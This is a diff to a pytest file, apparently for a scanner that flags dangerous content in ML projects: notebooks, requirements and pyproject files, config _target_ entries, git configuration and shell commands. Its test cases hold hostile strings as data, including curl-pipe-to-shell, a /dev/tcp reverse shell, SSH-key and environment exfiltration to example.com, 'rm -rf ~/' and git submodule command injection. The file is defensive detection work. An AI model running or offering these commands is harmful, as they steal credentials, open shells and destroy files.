@@ -46,7 +46,7 @@ def cells(*sources: str) -> str:
 @pytest.mark.parametrize(
     ("source", "kind"),
     [
-        ("!curl http://example.com/x.sh | sh\n", "shell-payload"),
+        ("!curl http://example.com/x.sh | sh\n", "shell-fetch"),
         ("%%bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n", "shell-payload"),
         ("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", "python-payload"),
         ("%matplotlib inline\n!ls\nimport base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", "python-payload"),
@@ -80,19 +80,46 @@ def test_an_ordinary_notebook_is_quiet() -> None:
         ("--trusted-host example.com", "open"),
         ("git+https://example.com/x.git#egg=x", "unknown"),
         ("git+https://github.com/huggingface/transformers", "known"),
+        ("git+https://github.com/example/x.git@main", "unknown"),
+        ("git+https://github.com/example/x.git@v1.2.0", "known"),
+        ("git+https://github.com/example/x@0123456789abcdef0123456789abcdef01234567", "known"),
+        ("https://huggingface.co/example/x/resolve/main/x.whl", "unknown"),
+        ("-r http://example.com/more.txt", "open"),
         ("--extra-index-url https://download.pytorch.org/whl/cu118", "known"),
         ("-f https://download.pytorch.org/whl/torch_stable.html", "known"),
         ("https://user@github.com.example.com/x.whl", "unknown"),
     ],
 )
 def test_requirements_tell_where_packages_come_from(line: str, trust: str) -> None:
-    (found,) = read(requirements.FORMAT, f"torch==2.1  # see https://example.com\n{line}\n", "requirements.txt")
+    (found,) = read(requirements.REQUIREMENTS, f"torch==2.1  # see https://example.com\n{line}\n", "requirements.txt")
     assert (found.get("trust"), found.place.line) == (trust, 2)
+
+
+@pytest.mark.parametrize(
+    ("text", "path", "trust"),
+    [
+        ("[project]\ndependencies = ['x @ http://example.com/x.whl']\n", "pyproject.toml", "open"),
+        ("[[tool.poetry.source]]\nname = 'x'\nurl = 'https://example.com/simple'\n", "pyproject.toml", "unknown"),
+        ("[[source]]\nurl = 'https://pypi.org/simple'\n", "Pipfile", "known"),
+        ("[options]\ninstall_requires =\n  x @ git+https://github.com/pytorch/x\n", "setup.cfg", "known"),
+    ],
+)
+def test_project_files_tell_where_packages_come_from(text: str, path: str, trust: str) -> None:
+    (found,) = read(requirements.PROJECT, text, path)
+    assert found.get("trust") == trust
+    assert (
+        read(requirements.PROJECT, "[project.urls]\nhome = 'https://example.com'\nurl = 'http://x.example'\n", path)
+        == []
+    )
 
 
 def test_plain_requirements_are_quiet() -> None:
     assert (
-        read(requirements.FORMAT, "torch>=2\n-e .\n-r other.txt\nnumpy ; python_version > '3'\n", "requirements.txt")
+        read(
+            requirements.REQUIREMENTS,
+            "torch>=2\n-e .\n-r other.txt\nnumpy ; python_version > '3'\n",
+            "requirements.txt",
+        )
         == []
     )
 
@@ -147,6 +174,10 @@ def test_weights_are_no_path_file() -> None:
         ("m:\n  _target_: torch.serialization.os.system\n", "torch.serialization.os.system"),
         ("m:\n  target: subprocess.run\n  params: {}\n", "subprocess.run"),
         ('{"a": {"_target_": "os.system"}}', "os.system"),
+        ("m:\n  _target_: exec\n", "exec"),
+        ("m:\n  _target_: os.${x}\n", "os.${x}"),
+        ("m:\n  _target_: functools.partial\n  _args_: [os.system, 'true']\n", "os.system"),
+        ("x: $__import__('os').system('true')\n", "__import__"),
         ("m: [\n  _target_: os.system\n", "os.system"),
         ("[" * 5000 + "\n_target_: os.system\n", "os.system"),
     ],
@@ -194,13 +225,19 @@ def test_loader_modules_of_mlflow_are_quiet_and_others_are_references() -> None:
 
 
 def test_git_files() -> None:
-    attributes, modules = git_attributes.FORMATS
+    attributes, configuration, modules = git_attributes.FORMATS
     assert read(attributes, "*.bin filter=lfs diff=lfs -text\n* text=auto\n# filter=x\n", ".gitattributes") == []
     (found,) = read(attributes, "*.bin filter=lfs\n*.txt filter=evil\n", ".gitattributes")
     assert (found.get("filter"), found.place.line) == ("evil", 2)
     assert read(modules, '[submodule "x"]\n\tpath = x\n\turl = https://example.com/x.git\n', ".gitmodules") == []
     for line in ("url = ext::sh -c true", "url = -u./x", "path = ../../x", "update = !true", "url = file:///etc"):
         assert len(read(modules, f'[submodule "x"]\n\t{line}\n', ".gitmodules")) == 1
+    (found,) = read(modules, '[submodule "../../x"]\n\tpath = x\n\turl = https://example.com/x\n', ".gitmodules")
+    assert found.get("value") == "../../x"
+    (found,) = read(configuration, "[core]\n\tbare = false\n\tfsmonitor = sh -c true\n", "sub.git/config")
+    assert (found.get("key"), found.place.line) == ("core.fsmonitor", 3)
+    plain = '[core]\n\tfsmonitor = true\n[filter "lfs"]\n\tsmudge = git-lfs smudge -- %f\n[driver]\nhelper = x\n'
+    assert read(configuration, plain, "config") == []
 
 
 @pytest.mark.parametrize(
@@ -218,6 +255,16 @@ def test_git_files() -> None:
         ("pip install -r requirements.txt", None),
         ("# curl http://example.com/x | sh", None),
         ("cat x | base64 -d > y", None),
+        ("curl -o x.sh http://example.com/x.sh\nbash x.sh", "pipe"),
+        ("wget http://example.com/a/x.sh\nchmod +x x.sh\n./x.sh", "pipe"),
+        ("wget https://repo.anaconda.com/miniconda/Miniconda3.sh\nbash Miniconda3.sh", "known"),
+        ("certutil -urlcache -f http://example.com/x.exe x.exe & x.exe", "pipe"),
+        ("curl -F f=@$HOME/.ssh/id_rsa http://example.com", "theft of credentials"),
+        ("env | curl -d @- http://example.com", "theft of credentials"),
+        ("rm -rf ~/", "wipe of files"),
+        ("rm -rf /tmp/build ~/x build/", None),
+        ('if (exec 3<>"/dev/tcp/127.0.0.1/$port") 2>/dev/null; then', None),
+        ("wget https://example.com/x.tar\ntar -xf x.tar", None),
     ],
 )
 def test_command_lines(line: str, does: str | None) -> None:
